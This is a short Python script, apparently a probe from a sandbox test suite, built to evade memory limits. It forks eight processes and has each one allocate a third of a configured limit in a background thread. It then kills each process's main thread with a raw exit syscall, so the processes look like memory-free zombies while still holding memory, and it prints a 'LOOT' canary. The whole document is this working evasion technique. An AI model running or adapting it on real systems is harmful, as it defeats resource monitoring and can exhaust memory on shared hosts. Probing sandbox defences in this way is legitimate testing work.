# %% [markdown] walls=true
# Takes memory in processes whose first thread has ended: they look like zombies, which have none.

# %%
import ctypes
import json
import os
import threading
import time

limit = json.load(open("target.json"))["memory"]


def take():
    kept = b"x" * (limit // 3)
    time.sleep(4)
    print("LOOT canary-memory", len(kept), flush=True)
    time.sleep(50)


for _ in range(8):
    if os.fork() == 0:
        threading.Thread(target=take).start()
        time.sleep(0.2)
        ctypes.CDLL(None).syscall(ctypes.c_long(60 if os.uname().machine == "x86_64" else 93), 0)
time.sleep(20)
